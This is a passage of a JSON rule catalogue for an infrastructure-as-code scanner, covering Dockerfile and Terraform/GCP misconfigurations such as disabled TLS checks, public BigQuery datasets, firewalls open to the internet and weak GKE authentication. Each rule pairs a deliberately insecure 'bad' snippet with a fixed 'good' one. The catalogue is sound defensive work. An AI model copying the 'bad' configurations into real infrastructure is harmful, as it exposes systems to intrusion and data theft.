      "fix": "End the RUN with `yum clean all` (and `rm -rf /var/cache/yum`)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#run"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-yum-sslverify-disabled",
    "title": "yum/dnf certificate verification disabled (sslverify)",
    "severity": "high",
    "cwe": [
      "CWE-295"
    ],
    "description": "`sslverify=0` makes yum and dnf accept any TLS certificate from the repository. Together with a disabled or missing GPG check, a man in the middle can serve modified packages.",
    "help": {
      "bad": "FROM fedora:41\nRUN dnf config-manager --save --setopt=sslverify=0\n",
      "good": "FROM fedora:41\nRUN dnf install -y httpd && dnf clean all\n",
      "fix": "Remove the option; for a private CA, add it to the system trust store (`update-ca-trust`) or set `sslcacert` for the repository."
    },
    "references": [
      "https://dnf.readthedocs.io/en/latest/conf_ref.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_15"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-zypper-cache-not-cleaned",
    "title": "zypper install without zypper clean",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "zypper keeps repository metadata and packages in /var/cache/zypp. Unless the same RUN cleans them, they stay in the image layer: a bigger image shipped with stale metadata.",
    "help": {
      "bad": "FROM opensuse/leap:15.6\nRUN zypper --non-interactive install curl\n",
      "good": "FROM opensuse/leap:15.6\nRUN zypper --non-interactive install curl && zypper clean --all\n",
      "fix": "End the RUN with `zypper clean --all` (or remove /var/cache/zypp)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#run",
      "https://en.opensuse.org/SDB:Zypper_manual"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/gcp-bigquery-dataset-public",
    "title": "BigQuery dataset is publicly accessible",
    "severity": "high",
    "cwe": [
      "CWE-284",
      "CWE-200"
    ],
    "description": "An `access` entry or IAM grant gives `allUsers` or `allAuthenticatedUsers` access to a dataset: every table in it can be queried by anyone (with a Google account), and query costs may be billed to the dataset owner.",
    "help": {
      "bad": "resource \"google_bigquery_dataset\" \"analytics\" {\n  dataset_id = \"analytics\"\n  location   = \"EU\"\n\n  access {\n    role          = \"READER\"\n    special_group = \"allAuthenticatedUsers\"\n  }\n}\n",
      "good": "resource \"google_bigquery_dataset\" \"analytics\" {\n  dataset_id = \"analytics\"\n  location   = \"EU\"\n\n  access {\n    role           = \"READER\"\n    group_by_email = \"analysts@example.com\"\n  }\n}\n",
      "fix": "Grant dataset access to specific users, groups or service accounts; publish shared data through Analytics Hub or authorized views."
    },
    "references": [
      "https://cloud.google.com/bigquery/docs/control-access-to-resources-iam",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/bigquery_dataset#access"
    ],
    "checkov": [
      "CKV_GCP_15"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-compute-default-sa-full-access",
    "title": "Compute instance uses the default service account with full API access",
    "severity": "high",
    "cwe": [
      "CWE-250",
      "CWE-269"
    ],
    "description": "The Compute Engine default service account holds the Editor role on the project. With the `cloud-platform` scope, anyone who gets code execution on the instance (or an SSRF to the metadata server) can use its token to modify almost anything in the project.",
    "help": {
      "bad": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  service_account {\n    scopes = [\"cloud-platform\"]\n  }\n}\n",
      "good": "resource \"google_service_account\" \"vm\" {\n  account_id = \"vm-runtime\"\n}\n\nresource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  service_account {\n    email  = google_service_account.vm.email\n    scopes = [\"cloud-platform\"]\n  }\n}\n",
      "fix": "Run the instance as a dedicated service account with only the roles it needs (the `cloud-platform` scope is fine then: IAM limits access)."
    },
    "references": [
      "https://cloud.google.com/compute/docs/access/service-accounts#default_service_account",
      "https://cloud.google.com/compute/docs/access/create-enable-service-accounts-for-instances"
    ],
    "checkov": [
      "CKV_GCP_31"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-compute-disk-cmek",
    "title": "Compute disk is not encrypted with a customer-managed or customer-supplied key",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "Compute Engine encrypts every disk with Google-managed keys. A customer-managed (Cloud KMS) or customer-supplied key adds control: key access is governed and audited separately, and disabling the key makes the data unreadable. Required by some compliance regimes for sensitive workloads.",
    "help": {
      "bad": "resource \"google_compute_disk\" \"data\" {\n  name = \"data\"\n  type = \"pd-ssd\"\n  zone = \"europe-west1-b\"\n  size = 100\n}\n",
      "good": "resource \"google_compute_disk\" \"data\" {\n  name = \"data\"\n  type = \"pd-ssd\"\n  zone = \"europe-west1-b\"\n  size = 100\n\n  disk_encryption_key {\n    kms_key_self_link = \"projects/acme/locations/europe-west1/keyRings/disks/cryptoKeys/data\"\n  }\n}\n",
      "fix": "Add `disk_encryption_key { kms_key_self_link = ... }` (disks) or `kms_key_self_link` in `boot_disk` (instances)."
    },
    "references": [
      "https://cloud.google.com/compute/docs/disks/customer-managed-encryption",
      "https://cloud.google.com/compute/docs/disks/customer-supplied-encryption"
    ],
    "checkov": [
      "CKV_GCP_37",
      "CKV_GCP_38"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-compute-ip-forwarding",
    "title": "Compute instance can forward IP packets",
    "severity": "medium",
    "cwe": [
      "CWE-668"
    ],
    "description": "`can_ip_forward = true` lets the instance send and receive packets whose addresses are not its own, so it can act as a router and bypass the VPC's anti-spoofing checks. Only NAT gateways, VPN and firewall appliances need it.",
    "help": {
      "bad": "resource \"google_compute_instance\" \"vm\" {\n  name           = \"vm\"\n  machine_type   = \"e2-medium\"\n  zone           = \"europe-west1-b\"\n  can_ip_forward = true\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n}\n",
      "good": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n}\n",
      "fix": "Remove `can_ip_forward` unless the instance is a network appliance; use Cloud NAT instead of NAT instances."
    },
    "references": [
      "https://cloud.google.com/vpc/docs/using-routes#canipforward",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#can_ip_forward"
    ],
    "checkov": [
      "CKV_GCP_36"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "medium"
  },
  {
    "id": "iac/gcp-compute-os-login-disabled",
    "title": "Compute instance turns OS Login off",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "`enable-oslogin = \"FALSE\"` in instance (or project) metadata overrides OS Login, so SSH access falls back to keys stored in metadata: they are not tied to IAM, not revoked when a person leaves, and any user who can edit metadata can add one.",
    "help": {
      "bad": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  metadata = {\n    enable-oslogin = \"FALSE\"\n  }\n}\n",
      "good": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  metadata = {\n    enable-oslogin = \"TRUE\"\n  }\n}\n",
      "fix": "Remove the `enable-oslogin = \"FALSE\"` override, and enable OS Login project-wide (`google_compute_project_metadata_item` with `enable-oslogin = \"TRUE\"`)."
    },
    "references": [
      "https://cloud.google.com/compute/docs/oslogin/set-up-oslogin",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_project_metadata_item"
    ],
    "checkov": [
      "CKV_GCP_34"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-compute-project-ssh-keys",
    "title": "Compute instance accepts project-wide SSH keys",
    "severity": "low",
    "cwe": [
      "CWE-284"
    ],
    "description": "Without `block-project-ssh-keys = true`, every SSH key in the project metadata can log in to the instance, so one leaked project key opens every VM. Instances that use OS Login (on the instance or project-wide in the same configuration) ignore metadata keys and are not reported.",
    "help": {
      "bad": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n}\n",
      "good": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  metadata = {\n    block-project-ssh-keys = true\n  }\n}\n",
      "fix": "Set `block-project-ssh-keys = true` in the instance metadata, or better, enable OS Login."
    },
    "references": [
      "https://cloud.google.com/compute/docs/connect/restrict-ssh-keys#block-keys",
      "https://cloud.google.com/compute/docs/oslogin"
    ],
    "checkov": [
      "CKV_GCP_32"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-compute-serial-port-enabled",
    "title": "Compute instance enables interactive serial port access",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "`serial-port-enable = true` in instance or project metadata opens the interactive serial console. It accepts connections from any IP address and is not governed by VPC firewall rules, so anyone with the right SSH key or IAM role can reach the instance's console from anywhere.",
    "help": {
      "bad": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  metadata = {\n    serial-port-enable = true\n  }\n}\n",
      "good": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  metadata = {\n    serial-port-enable = false\n  }\n}\n",
      "fix": "Remove `serial-port-enable` from the metadata or set it to `false`; turn it on temporarily only while debugging."
    },
    "references": [
      "https://cloud.google.com/compute/docs/troubleshooting/troubleshooting-using-serial-console",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#metadata"
    ],
    "checkov": [
      "CKV_GCP_35"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-compute-shielded-vm",
    "title": "Compute instance turns off Shielded VM protections",
    "severity": "medium",
    "cwe": [
      "CWE-693"
    ],
    "description": "Shielded VM's virtual TPM and integrity monitoring detect boot-level tampering (rootkits, bootkits) by measuring the boot sequence. They are on by default for Shielded VM images; setting `enable_vtpm` or `enable_integrity_monitoring` to `false` removes that protection.",
    "help": {
      "bad": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  shielded_instance_config {\n    enable_vtpm                 = false\n    enable_integrity_monitoring = false\n  }\n}\n",
      "good": "resource \"google_compute_instance\" \"vm\" {\n  name         = \"vm\"\n  machine_type = \"e2-medium\"\n  zone         = \"europe-west1-b\"\n\n  boot_disk {\n    initialize_params {\n      image = \"debian-cloud/debian-12\"\n    }\n  }\n\n  network_interface {\n    network = \"default\"\n  }\n\n  shielded_instance_config {\n    enable_secure_boot          = true\n    enable_vtpm                 = true\n    enable_integrity_monitoring = true\n  }\n}\n",
      "fix": "Set `enable_vtpm = true` and `enable_integrity_monitoring = true` (and `enable_secure_boot = true` where drivers allow) in `shielded_instance_config`."
    },
    "references": [
      "https://cloud.google.com/compute/shielded-vm/docs/shielded-vm",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#shielded_instance_config"
    ],
    "checkov": [
      "CKV_GCP_39"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-dns-dnssec-disabled",
    "title": "Public Cloud DNS zone does not use DNSSEC",
    "severity": "medium",
    "cwe": [
      "CWE-345"
    ],
    "description": "Without DNSSEC, resolvers cannot verify that answers for the zone come from its owner, so cache poisoning and on-path attackers can redirect users and mail to servers they control. Private zones are not reported.",
    "help": {
      "bad": "resource \"google_dns_managed_zone\" \"public\" {\n  name     = \"example\"\n  dns_name = \"example.com.\"\n}\n",
      "good": "resource \"google_dns_managed_zone\" \"public\" {\n  name     = \"example\"\n  dns_name = \"example.com.\"\n\n  dnssec_config {\n    state = \"on\"\n  }\n}\n",
      "fix": "Add `dnssec_config { state = \"on\" }` and publish the DS record at the registrar."
    },
    "references": [
      "https://cloud.google.com/dns/docs/dnssec-config",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/dns_managed_zone#dnssec_config"
    ],
    "checkov": [
      "CKV_GCP_16"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-dns-dnssec-rsasha1",
    "title": "Cloud DNS DNSSEC signs with RSASHA1",
    "severity": "medium",
    "cwe": [
      "CWE-327"
    ],
    "description": "RSASHA1 relies on SHA-1, which has practical chosen-prefix collisions; RFC 8624 says it must not be used for signing. Zones signed with it get weaker authenticity guarantees and may be treated as insecure by validating resolvers.",
    "help": {
      "bad": "resource \"google_dns_managed_zone\" \"public\" {\n  name     = \"example\"\n  dns_name = \"example.com.\"\n\n  dnssec_config {\n    state = \"on\"\n\n    default_key_specs {\n      algorithm  = \"rsasha1\"\n      key_length = 2048\n      key_type   = \"keySigning\"\n    }\n  }\n}\n",
      "good": "resource \"google_dns_managed_zone\" \"public\" {\n  name     = \"example\"\n  dns_name = \"example.com.\"\n\n  dnssec_config {\n    state = \"on\"\n\n    default_key_specs {\n      algorithm  = \"ecdsap256sha256\"\n      key_length = 256\n      key_type   = \"keySigning\"\n    }\n  }\n}\n",
      "fix": "Use `ecdsap256sha256` (or `rsasha256`) for the key-signing and zone-signing keys."
    },
    "references": [
      "https://cloud.google.com/dns/docs/dnssec-advanced#algorithms",
      "https://www.rfc-editor.org/rfc/rfc8624#section-3.1"
    ],
    "checkov": [
      "CKV_GCP_17"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-firewall-all-ports-open",
    "title": "Firewall rule allows every port from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "A VPC firewall rule admits all protocols, or every TCP/UDP port, from 0.0.0.0/0 (or sets no source at all, which GCP treats as 0.0.0.0/0). Every service listening on the targeted instances, including databases and admin consoles never meant to be public, becomes reachable from the internet.",
    "help": {
      "bad": "resource \"google_compute_firewall\" \"open\" {\n  name    = \"allow-everything\"\n  network = \"default\"\n\n  allow {\n    protocol = \"all\"\n  }\n\n  source_ranges = [\"0.0.0.0/0\"]\n}\n",
      "good": "resource \"google_compute_firewall\" \"web\" {\n  name    = \"allow-https\"\n  network = \"default\"\n\n  allow {\n    protocol = \"tcp\"\n    ports    = [\"443\"]\n  }\n\n  source_ranges = [\"0.0.0.0/0\"]\n  target_tags   = [\"web\"]\n}\n",
      "fix": "Allow only the ports the service needs (for example 443), and limit `source_ranges` for anything that is not a public endpoint."
    },
    "references": [
      "https://cloud.google.com/firewall/docs/firewalls",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"
    ],
    "checkov": [
      "CKV2_GCP_12"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-firewall-rdp-open",
    "title": "Firewall rule allows RDP (port 3389) from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "A VPC firewall rule admits port 3389 from 0.0.0.0/0 (or sets no source at all, which GCP treats as 0.0.0.0/0). Internet-facing Remote Desktop is a leading entry point for ransomware: credential stuffing and RDP vulnerabilities (BlueKeep) are exploited at scale.",
    "help": {
      "bad": "resource \"google_compute_firewall\" \"rdp\" {\n  name    = \"allow-rdp\"\n  network = \"default\"\n\n  allow {\n    protocol = \"tcp\"\n    ports    = [\"3389\"]\n  }\n\n  source_ranges = [\"0.0.0.0/0\"]\n}\n",
      "good": "resource \"google_compute_firewall\" \"rdp\" {\n  name    = \"allow-rdp-from-iap\"\n  network = \"default\"\n\n  allow {\n    protocol = \"tcp\"\n    ports    = [\"3389\"]\n  }\n\n  source_ranges = [\"35.235.240.0/20\"]\n}\n",
      "fix": "Restrict `source_ranges` to known administrative networks, or reach instances through IAP TCP forwarding or a bastion."
    },
    "references": [
      "https://cloud.google.com/firewall/docs/firewalls",
      "https://cloud.google.com/iap/docs/using-tcp-forwarding",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"
    ],
    "checkov": [
      "CKV_GCP_3"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-firewall-ssh-open",
    "title": "Firewall rule allows SSH (port 22) from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "A VPC firewall rule admits TCP port 22 from 0.0.0.0/0 (or sets no source at all, which GCP treats as 0.0.0.0/0). Every instance the rule targets is exposed to SSH brute force and to exploits of the SSH daemon from anywhere on the internet.",
    "help": {
      "bad": "resource \"google_compute_firewall\" \"ssh\" {\n  name    = \"allow-ssh\"\n  network = \"default\"\n\n  allow {\n    protocol = \"tcp\"\n    ports    = [\"22\"]\n  }\n\n  source_ranges = [\"0.0.0.0/0\"]\n}\n",
      "good": "resource \"google_compute_firewall\" \"ssh\" {\n  name    = \"allow-ssh-from-iap\"\n  network = \"default\"\n\n  allow {\n    protocol = \"tcp\"\n    ports    = [\"22\"]\n  }\n\n  # Identity-Aware Proxy TCP forwarding range\n  source_ranges = [\"35.235.240.0/20\"]\n}\n",
      "fix": "Restrict `source_ranges` to known administrative networks, or reach instances through IAP TCP forwarding (35.235.240.0/20) or a bastion."
    },
    "references": [
      "https://cloud.google.com/firewall/docs/firewalls",
      "https://cloud.google.com/iap/docs/using-tcp-forwarding",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"
    ],
    "checkov": [
      "CKV_GCP_2"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-basic-auth",
    "title": "GKE cluster enables basic authentication",
    "severity": "high",
    "cwe": [
      "CWE-287",
      "CWE-798"
    ],
    "description": "A `username`/`password` in `master_auth` turns on HTTP basic authentication to the Kubernetes API: a static admin password that cannot be tied to a person, is not protected by MFA and is stored in the Terraform state. GKE removed basic authentication in 1.19; configurations that still set it are a liability.",
    "help": {
      "bad": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n\n  master_auth {\n    username = \"admin\"\n    password = var.cluster_password\n  }\n}\n",
      "good": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n\n  master_auth {\n    client_certificate_config {\n      issue_client_certificate = false\n    }\n  }\n}\n",
      "fix": "Remove `username` and `password` from `master_auth` (or set them to empty strings) and authenticate with Google identities."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/api-server-authentication#legacy-auth",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#master_auth"
    ],
    "checkov": [
      "CKV_GCP_19"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-client-certificate",
    "title": "GKE cluster issues a client certificate",
    "severity": "medium",
    "cwe": [
      "CWE-287"
    ],
    "description": "`issue_client_certificate = true` creates a cluster-admin client certificate that cannot be revoked or rotated short of rotating the cluster CA, and that ends up in the Terraform state. Anyone who reads the state gets permanent admin access to the cluster.",
    "help": {
      "bad": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n\n  master_auth {\n    client_certificate_config {\n      issue_client_certificate = true\n    }\n  }\n}\n",
      "good": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n\n  master_auth {\n    client_certificate_config {\n      issue_client_certificate = false\n    }\n  }\n}\n",
      "fix": "Set `issue_client_certificate = false` and authenticate with Google identities (gcloud / GKE auth plugin)."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/api-server-authentication#legacy-auth",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#master_auth"
    ],
    "checkov": [
      "CKV_GCP_13"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-legacy-abac",
    "title": "GKE cluster enables legacy ABAC authorization",
    "severity": "high",
    "cwe": [
      "CWE-285"
    ],
    "description": "Legacy attribute-based access control grants broad, static permissions that bypass Kubernetes RBAC: with it on, service accounts and users can receive cluster-wide rights that RBAC policies never show. It is disabled by default on clusters since GKE 1.8.",
    "help": {
      "bad": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n  enable_legacy_abac = true\n}\n",
      "good": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n}\n",
      "fix": "Remove `enable_legacy_abac` (or set it to `false`) and grant access with Kubernetes RBAC and IAM."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/hardening-your-cluster#leave_abac_disabled",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#enable_legacy_abac"
    ],
    "checkov": [
      "CKV_GCP_7"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-legacy-metadata-endpoints",
    "title": "GKE nodes enable the legacy metadata server endpoints",
    "severity": "medium",
    "cwe": [
      "CWE-522"
    ],
    "description": "The legacy Compute Engine metadata endpoints (`v0.1`, `v1beta1`) answer requests without the `Metadata-Flavor: Google` header, so a simple server-side request forgery in any pod can read the node's service account token and kubelet credentials. `disable-legacy-endpoints = \"false\"` in the node metadata turns them back on.",
    "help": {
      "bad": "resource \"google_container_node_pool\" \"default\" {\n  name       = \"default\"\n  cluster    = \"main\"\n  location   = \"europe-west1\"\n  node_count = 3\n\n  node_config {\n    machine_type = \"e2-standard-4\"\n    metadata = {\n      disable-legacy-endpoints = \"false\"\n    }\n  }\n}\n",
      "good": "resource \"google_container_node_pool\" \"default\" {\n  name       = \"default\"\n  cluster    = \"main\"\n  location   = \"europe-west1\"\n  node_count = 3\n\n  node_config {\n    machine_type = \"e2-standard-4\"\n    metadata = {\n      disable-legacy-endpoints = \"true\"\n    }\n  }\n}\n",
      "fix": "Set `disable-legacy-endpoints = \"true\"` in `node_config.metadata` (or leave it out: GKE disables the endpoints by default)."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/protecting-cluster-metadata",
      "https://cloud.google.com/compute/docs/metadata/querying-metadata#legacy_metadata_server_endpoints"
    ],
    "checkov": [
      "CKV_GCP_67"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-master-authorized-networks",
    "title": "GKE control plane is reachable from any IP address",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Without `master_authorized_networks_config` (or with a 0.0.0.0/0 entry in it), the cluster's public Kubernetes API endpoint accepts connections from the whole internet, exposing it to credential attacks and to API server vulnerabilities. Clusters with only a private endpoint are not reported.",
    "help": {
      "bad": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n}\n",
      "good": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n\n  master_authorized_networks_config {\n    cidr_blocks {\n      cidr_block   = \"203.0.113.0/24\"\n      display_name = \"office\"\n    }\n  }\n}\n",
      "fix": "Add a `master_authorized_networks_config` block listing the networks that administer the cluster, or make the endpoint private."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/authorized-networks",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#master_authorized_networks_config"
    ],
    "checkov": [
      "CKV_GCP_20"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-network-policy",
    "title": "GKE cluster does not enforce network policies",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Without network policy enforcement every pod can reach every other pod, so one compromised workload can probe databases and internal services across namespaces. Clusters on Dataplane V2 (`datapath_provider = \"ADVANCED_DATAPATH\"`) and Autopilot clusters enforce policies natively and are not reported.",
    "help": {
      "bad": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n\n  network_policy {\n    enabled = false\n  }\n}\n",
      "good": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n  datapath_provider  = \"ADVANCED_DATAPATH\"\n}\n",
      "fix": "Use Dataplane V2 (`datapath_provider = \"ADVANCED_DATAPATH\"`), or set `network_policy { enabled = true }` with `addons_config.network_policy_config.disabled = false`."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/network-policy",
      "https://cloud.google.com/kubernetes-engine/docs/concepts/dataplane-v2",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#network_policy"
    ],
    "checkov": [
      "CKV_GCP_12"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-node-auto-repair",
    "title": "GKE node pool has automatic repair turned off",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "With `management { auto_repair = false }` GKE no longer recreates nodes that fail health checks; broken nodes keep their pods unschedulable or degraded until someone notices, which hurts availability.",
    "help": {
      "bad": "resource \"google_container_node_pool\" \"default\" {\n  name       = \"default\"\n  cluster    = \"main\"\n  location   = \"europe-west1\"\n  node_count = 3\n\n  management {\n    auto_repair  = false\n    auto_upgrade = true\n  }\n}\n",
      "good": "resource \"google_container_node_pool\" \"default\" {\n  name       = \"default\"\n  cluster    = \"main\"\n  location   = \"europe-west1\"\n  node_count = 3\n\n  management {\n    auto_repair  = true\n    auto_upgrade = true\n  }\n}\n",
      "fix": "Set `management { auto_repair = true }`."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/node-auto-repair",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_node_pool#management"
    ],
    "checkov": [
      "CKV_GCP_9"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021",
      "resilience"
    ],
    "precision": "high"
  },
  {
